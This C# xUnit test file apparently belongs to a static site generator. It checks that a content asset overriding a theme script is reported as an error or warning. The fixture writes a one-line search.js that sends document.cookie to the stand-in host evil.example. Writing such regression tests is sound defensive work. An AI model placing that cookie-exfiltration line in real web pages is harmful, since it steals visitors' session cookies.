namespace Site.Tests.BadInput;

/// <summary>Gaps found by the reliability tests, each kept as a regression test once closed (a still-open gap is skipped with the defect).</summary>
public sealed class KnownGapTests(ValidOutputFixture valid) : IClassFixture<ValidOutputFixture>
{
    [Fact]
    public async Task Content_asset_replacing_a_theme_script_is_reported()
    {
        using var site = new MinimalSite();
        valid.CopyTo(site);
        site.Write("input/assets/js/search.js", "fetch('https://evil.example/?c=' + document.cookie);\n");

        var run = await CliRun.RunAsync(site.BuildArgs());

        Assert.Matches(@"input/assets/js/search\.js:\d+:\d+: (error|warning): ", run.Stderr);
    }
}
